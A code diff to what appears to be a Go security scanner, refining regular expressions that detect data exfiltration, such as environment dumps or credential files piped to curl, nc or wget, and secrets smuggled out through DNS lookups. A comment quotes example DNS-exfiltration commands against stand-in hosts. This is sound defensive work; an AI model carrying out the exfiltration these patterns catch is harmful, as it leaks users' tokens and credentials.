@@ -195,8 +195,10 @@ var exfilCommands = []*regexp.Regexp{
 	regexp.MustCompile(`\b(?:tar|zip)\b[^\n|]*\|\s*curl\b[^\n]*(?:-t|--upload-file|-f|--data)`),
 	regexp.MustCompile(`\b(?:env|printenv)\s*\|\s*(?:curl|nc|wget)\b|\bcat\b[^\n|]*(?:\.env|\.ssh/|credentials|\.npmrc|\.netrc|config\.json|\.kube/config|\.aws/)[^\n|]*\|\s*(?:curl|nc|wget)\b`),
 	regexp.MustCompile(`\b(?:nslookup|dig|host)\s+[^\n]*\$\(\s*cat\b`),
-	// A secret variable spelled into a name to look up: DNS carries it out.
-	regexp.MustCompile(`(?i)\b(?:nslookup|dig|host|ping)\b[^\n|;]*\$\{?[a-z_]*(?:token|key|secret|password|pass)\b`),
+	// A secret variable spelled into a name to look up: DNS carries it out
+	// (nslookup $(… $GITHUB_TOKEN …).t.example.net, dig ${API_KEY}.x.example.net;
+	// not mysql --host=…, nor dig -k $TSIG_KEY).
+	regexp.MustCompile(`(?i)(?:^|[\s;|&(` + "`" + `])(?:nslookup|dig|host|ping)\s+[^\n|;]*?(?:\$\([^)\n]*\$\{?[a-z_]*(?:token|key|secret|password|pass)\b[^)\n]*\)|\$\{?[a-z_]*(?:token|key|secret|password|pass)\}?)\.[\w.-]+\.[a-z]{2,}`),
 	// Python code posting the whole environment (dict(os.environ), not
 	// one variable read for a header).
 	regexp.MustCompile(`(?s)\b(?:urlopen|requests\.(?:post|put|get)|httpx\.(?:post|put)|session\.post)\(.{0,300}?` + envDump + `|` + envDump + `.{0,200}?\b(?:urlopen|requests\.(?:post|put)|httpx\.(?:post|put))\(`),
